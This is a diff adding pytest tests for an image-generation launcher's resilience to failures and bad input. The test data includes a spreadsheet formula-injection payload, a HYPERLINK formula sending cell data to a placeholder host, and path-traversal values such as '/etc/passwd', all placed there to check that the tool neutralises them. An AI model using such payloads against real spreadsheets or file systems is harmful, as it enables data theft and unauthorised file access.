@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+import csv
+import errno
 import json
 import os
+import shutil
 import signal
+import subprocess
 import sys
 import threading
 import time
@@ -29,7 +33,8 @@ from forecache_launch import LaunchError, compare, manifest, processes, ray_engi
 from forecache_launch.manifest import Records, Writer
 from forecache_launch.orders import Orders, Task
 from forecache_launch.output import read
-from forecache_launch.settings import Settings
+from forecache_launch.settings import Settings, differences
+from forecache_launch.work import Worker
 
 MANY = 64
 DIT = ["--model", "tiny:dit", "--steps", "4", "--few-steps", "--basis", "linear", "--calls", "3"]
@@ -67,6 +72,15 @@ def alone(many, tmp_path_factory) -> dict[str, bytes]:
     found = files_of(out)
     assert len(found) == MANY and len(set(found.values())) == MANY, "the control: no two prompts give the same file"
     return found
+
+
+@pytest.fixture(scope="module")
+def made_once(tmp_path_factory) -> Path:
+    """The run of what :func:`few` holds."""
+    folder = tmp_path_factory.mktemp("once")
+    (folder / "few.txt").write_text("a chair\n\ntwo apples\n")
+    assert generate(*DIT, "--prompts", folder / "few.txt", "--out", folder / "run")[0] == 0
+    return folder / "run"
 
 
 @pytest.fixture
@@ -262,6 +276,140 @@ def test_a_job_that_fails_does_not_stop_the_others(tmp_path):
     assert status == 1 and "3 jobs in a row failed" in said and "5 missing" in said
 
 
+def test_what_failed_before_comes_last(tmp_path):
+    """Three bad jobs at the head of the file would stop every command at the same place."""
+    prompts, out = tmp_path / "labels.jsonl", tmp_path / "run"
+    prompts.write_text("\n".join(json.dumps({"class_label": label}) for label in (10**6, 10**7, 10**8, 1, 2)))
+    assert generate(*DIT, "--prompts", prompts, "--out", out)[0] == 1 and not files_of(out)
+    status, said = generate(*DIT, "--prompts", prompts, "--out", out)
+    assert status == 1 and "2 of 5 samples" in said and len(files_of(out)) == 2
+
+
+def test_half_a_character_in_a_prompt_is_the_affair_of_its_sample_alone(tmp_path):
+    """JavaScript's slice() leaves half an emoji: the others are made, listed and not made again."""
+    prompts, out = tmp_path / "p.jsonl", tmp_path / "run"
+    prompts.write_text('{"prompt": "a chair"}\n{"prompt": "an apple \\ud83c"}\n{"prompt": "a lamp"}\n')
+    for _ in range(2):
+        status, said = generate(*DIT, "--prompts", prompts, "--out", out)
+        assert status == 1 and "1 missing: an-apple" in said and "failed: an-apple" in said
+        assert len(files_of(out)) == 2 and "an apple \ud83c" in {each["prompt"] for each in listed(out).values()}
+        rows = list(csv.DictReader((out / "manifest.csv").open(encoding="utf-8")))
+        assert [row["prompt"] for row in rows] == ["a chair", r"an apple \ud83c", "a lamp"]
+
+
+def test_an_error_whose_text_no_file_can_hold_is_recorded(few, tmp_path, monkeypatch):
+    def fails(self, job, kind):
+        raise RuntimeError(f"cannot encode \ud83c of {job.id}")
+
+    monkeypatch.setattr(Worker, "sample", fails)
+    status, said = generate(*DIT, "--prompts", few, "--out", tmp_path / "run")
+    assert status == 1 and r"RuntimeError: cannot encode \ud83c" in said
+    assert r"cannot encode \ud83c" in (tmp_path / "run" / "logs" / "worker-0.log").read_text()
+
+
+def test_a_spreadsheet_gets_no_formulas(tmp_path):
+    prompts, out = tmp_path / "p.txt", tmp_path / "run"
+    given = ['=HYPERLINK("http://x/?"&A1)', "@SUM(1+1)", "+1+1", "-2+3", "a = b"]
+    prompts.write_text("\n".join(given))
+    assert generate(*DIT, "--prompts", prompts, "--out", out)[0] == 0
+    rows = list(csv.DictReader((out / "manifest.csv").open(encoding="utf-8", newline="")))
+    assert [row["prompt"] for row in rows] == [f"'{text}" for text in given[:4]] + given[4:]
+    assert [entry["prompt"] for entry in listed(out).values()] == given, "JSON keeps the exact text"
+
+
+def test_a_run_that_is_killed_in_its_first_write_goes_on(few, tmp_path):
+    out = tmp_path / "run"
+    program = (
+        "import os, signal, sys; from pathlib import Path\n"
+        "os.fsync = lambda file: os.kill(os.getpid(), signal.SIGKILL)\n"
+        "from forecache_launch import Settings, generate, read_jobs\n"
+        "generate(Settings('tiny:dit'), read_jobs(Path(sys.argv[1]), [0]), Path(sys.argv[2]), lambda folder: iter(()))"
+    )
+    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), "OMP_NUM_THREADS": "1"}
+    killed = subprocess.run([sys.executable, "-c", program, str(few), str(out)], env=env, check=False)
+    assert (
+        killed.returncode == -signal.SIGKILL and not (out / "settings.json").exists() and len(list(out.iterdir())) == 2
+    )
+    assert generate(*DIT, "--prompts", few, "--out", out)[0] == 0 and len(files_of(out)) == 2
+    assert not [path for path in out.rglob(".*") if "partial" in path.name]
+
+
+@pytest.mark.parametrize("written", [0, 2, 4])
+def test_a_run_that_finds_the_disk_full_goes_on(few, tmp_path, monkeypatch, written):
+    """In the first write, within a sample, in a record: one line, and no half file that takes up room."""
+    out, real, left = tmp_path / "run", os.fsync, [written]
+
+    def full(file):
+        if not left[0]:
+            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+        left[0] -= 1
+        real(file)
+
+    with monkeypatch.context() as patch:
+        patch.setattr(os, "fsync", full)
+        status, said = generate(*DIT, "--prompts", few, "--out", out)
+    assert status == 1 and said.startswith(f"error: --out {out}: No space left on device; the same command goes on")
+    assert not [path for path in out.rglob(".*") if "partial" in path.name]
+    assert generate(*DIT, "--prompts", few, "--out", out)[0] == 0 and len(files_of(out)) == 2
+
+
+def test_what_a_dead_worker_had_begun_is_gone_when_the_command_ends(few, tmp_path, monkeypatch):
+    """Such a file begins with a dot, and Path.glob("*.png") takes it for a sample."""
+    out, here = tmp_path / "run", processes.here
+
+    def dies(folder, device):
+        steps = here(folder, device)
+        next(steps), next(steps)
+        yield
+        (folder / ".two-apples.partial.png").write_bytes(b"half")
+        raise LaunchError("a worker process died")
+
+    monkeypatch.setattr(processes, "here", dies)
+    status, said = generate(*DIT, "--prompts", few, "--out", out)
+    assert status == 1 and "a worker process died" in said and len(files_of(out)) == 1
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda record: b"[" * 100_000, lambda record: b'{"id": ' + b"9" * 5000 + b"}", lambda record: b"1",
+        lambda record: b"\xff", lambda record: b'{"id": [], "kind": "forecast"}',
+        *(lambda record, name=name: json.dumps({k: v for k, v in record.items() if k != name}).encode()
+          for name in manifest.Sample.__required_keys__),
+        *(lambda record, name=name: json.dumps({**record, name: None}).encode()
+          for name in manifest.Sample.__required_keys__),
+        lambda record: json.dumps({**record, "file": "../../x", "bytes": 3}).encode(),
+        lambda record: json.dumps({**record, "file": "/etc/passwd"}).encode(),
+    ],
+)  # fmt: skip
+def test_a_record_that_was_damaged_costs_its_sample_and_nothing_else(few, tmp_path, made_once, change):
+    out = tmp_path / "run"
+    shutil.copytree(made_once, out)
+    (tmp_path / "x").write_bytes(b"abc")
+    path = out / "records" / "worker-0.jsonl"
+    first, second = path.read_bytes().splitlines()
+    path.write_bytes(change(json.loads(first)) + b"\n" + second + b"\n")
+    before = files_of(out)
+    status, said = generate(*DIT, "--prompts", few, "--out", out)
+    assert status == 0 and "is no record (" in said and "2 of 2 samples" in said
+    assert files_of(out) == before and len(path.read_bytes().splitlines()) == 3
+
+
+def test_settings_that_were_damaged_are_named(few, tmp_path, made_once):
+    for body in ("[" * 100_000, "9" * 5000, "[]", "{", "null"):
+        out = tmp_path / str(len(body))
+        shutil.copytree(made_once, out)
+        (out / "settings.json").write_text(body)
+        status, said = generate(*DIT, "--prompts", few, "--out", out)
+        assert status == 1 and said.startswith(f"error: {out}/settings.json: is not a run's settings: ")
+        shutil.rmtree(out)
+
+
+def test_a_value_that_is_no_number_is_the_same_value_again(tmp_path):
+    first, again = (Settings("tiny:dit", call={"eta": json.loads("NaN")}).to_dict() for _ in range(2))
+    assert not differences(first, again) and differences(first, {**again, "call": {"eta": 0}})
+
+
 def test_baseline_manifest_and_metrics(few, tmp_path):
     """At interval 1 all is computed: identical to the uncached run, which is the control of the metrics."""
     flux = ("--model", "tiny:flux", "--prompts", few, "--steps", 4, "--few-steps", "--height", 32, "--width", 32)
@@ -343,24 +491,33 @@ def test_names_come_from_what_is_asked_for(tmp_path):
     assert first.id == "mine-s9" and [job.seed for job in others] == [1, 2]
 
 
+SAMPLE = {
+    "id": "a", "kind": "forecast", "digest": "", "file": "a.png", "bytes": 1, "seconds": 0.1, "first_of_worker": True,
+    "calls": {"cond": 3}, "warnings": [],
+}  # fmt: skip
+
+
 def test_records_are_whole_or_torn(tmp_path):
     path = tmp_path / "w.jsonl"
     writer = Writer(path)
-    writer.append({"id": "a", "kind": "forecast"})
+    writer.append(SAMPLE)
     writer.close()
     path.write_bytes(path.read_bytes() + b'{"id": "b", "ki')
     records = Records(tmp_path)
     records.refresh()
     assert set(records.found) == {("a", "forecast")} and records.torn() == [path]
     writer = Writer(path)
-    writer.append({"id": "c", "kind": "forecast"})
+    writer.append({**SAMPLE, "id": "c"})
     writer.close()
     again = Records(tmp_path)
     again.refresh()
     assert set(again.found) == {("a", "forecast"), ("c", "forecast")} and not again.torn()
     path.write_bytes(b"nonsense\n" + path.read_bytes())
-    with pytest.raises(LaunchError, match="no record"):
-        Records(tmp_path).refresh()
+    again = Records(tmp_path)
+    again.refresh()
+    assert (
+        len(again.found) == 2 and len(again.damaged) == 1 and "b'nonsense' is no record (not JSON" in again.damaged[0]
+    )
     assert "calls" in manifest.row({"id": "a"})
 
 
@@ -387,6 +544,22 @@ def test_records_are_whole_or_torn(tmp_path):
         (["--seeds", "1,1"], "names a seed twice"),
         (["--steps", "0"], "--steps must be >= 1"),
         (["--height", "32"], "--height: DiTPipeline takes no height"),
+        (["--steps", "6", "--calls", "7"], "--calls 7: must be at most the number of steps, 6"),
+        (["--calls", "51"], "--calls 51: must be at most the number of steps, 50"),
+        (["--guidance", "nan"], "--guidance must be finite, got nan"),
+        (["--prompts", "deep.jsonl"], "deep.jsonl, line 1: lists and objects are nested more than 64 deep"),
+        (["--prompts", "digits.jsonl"], "line 1: a number has too many digits"),
+        (["--prompts", "null.jsonl"], "line 1: image a\\x00b: embedded null byte"),
+        (["--prompts", "half.jsonl"], "line 1: image \\ud800"),
+        (["--prompts", "pipe.jsonl"], "line 1: image pipe: is no regular file"),
+        (["--prompts", "long.jsonl"], "got 'nnn"),
+        (["--seeds", "9" * 5000], "--seeds must be like"),
+        (["--seeds", "0-99999999999"], "--seeds must be at most 1,000,000"),
+        (["--set", "foo=" + "[" * 100_000], "--set foo: DiTPipeline takes no foo"),
+        (["--set", "foo=" + "9" * 5000], "--set foo: DiTPipeline takes no foo"),
+        (["--model", "torn"], "torn: no pipeline of diffusers is there, or reachable"),
+        (["--model", "deep"], "deep: no pipeline of diffusers is there, or reachable"),
+        (["--model", "other"], "has no pipeline UNet2DModel"),
         (["--set", "foo=1"], "--set foo: DiTPipeline takes no foo"),
         (["--set", "foo"], "--set must be NAME=VALUE"),
         (["--set", "generator=1"], "option of its own"),
@@ -403,10 +576,20 @@ def test_bad_input_is_one_line_and_nothing_is_written(arguments, message, tmp_pa
     Path("path.jsonl").write_text('{"prompt": "a", "id": "../a"}\n')
     Path("image.jsonl").write_text('{"prompt": "a", "image": "no.png"}\n')
     Path("negative.jsonl").write_text('{"prompt": "a", "negative_prompt": "b"}\n')
+    Path("deep.jsonl").write_text("[" * 200_000)
+    Path("digits.jsonl").write_text('{"prompt": "a", "seed": ' + "9" * 5000 + "}")
+    Path("null.jsonl").write_text('{"prompt": "a", "image": "a\\u0000b"}')
+    Path("half.jsonl").write_text('{"prompt": "a", "image": "\\ud800"}')
+    Path("pipe.jsonl").write_text('{"prompt": "a", "image": "pipe"}')
+    Path("long.jsonl").write_text(json.dumps({"prompt": "a", "id": "n" * 10_000}))
+    os.mkfifo("pipe")
+    for name, body in {"torn": "{", "deep": "[" * 100_000, "other": '{"_class_name": "UNet2DModel"}'}.items():
+        Path(name).mkdir()
+        Path(name, "model_index.json").write_text(body)
     given = {"--model": "tiny:dit", "--prompts": "few.txt", "--out": "run"}
     given |= dict(zip(arguments[::2], arguments[1::2], strict=True))
     status, said = generate(*(word for pair in given.items() for word in pair))
-    assert status == 1 and said.startswith("error: ") and message in said
+    assert status == 1 and said.startswith("error: ") and message in said and len(said) < 1000
     assert not Path("run").exists()
 
 
